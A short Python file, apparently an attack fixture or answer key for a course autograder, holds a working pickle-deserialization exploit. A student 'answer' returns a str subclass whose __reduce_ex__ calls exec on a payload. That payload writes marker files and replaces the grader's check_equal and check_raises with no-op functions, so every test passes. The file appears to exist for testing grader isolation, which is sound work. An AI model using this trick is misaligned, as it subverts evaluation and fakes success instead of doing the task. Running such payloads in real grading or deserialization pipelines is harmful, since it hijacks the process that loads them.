"""An object says how it is to be rebuilt elsewhere, and that may be any call: whoever unpickles
what a student's function returned runs the student's code among the tests."""

ANSWERS = {
    "b7-diagnose": """\
CODE = '''
import sys

for path in ["/tmp/DLCOURSE_ATTACK-unpickled", "@COURSE@/grading/DLCOURSE_ATTACK-unpickled"]:
    try:
        open(path, "w").close()
    except OSError:
        pass
testing = sys.modules.get("dlcourse.testing")
testing.check_equal = testing.check_raises = lambda *_, **__: None
'''


class Trap(str):
    def __reduce_ex__(self, protocol):
        return exec, (CODE,)


def diagnose(train_losses, validation_losses, target, gap):
    if not train_losses or len(train_losses) != len(validation_losses):
        raise ValueError(Trap("this much the task says"))
    return Trap("good")
"""
}
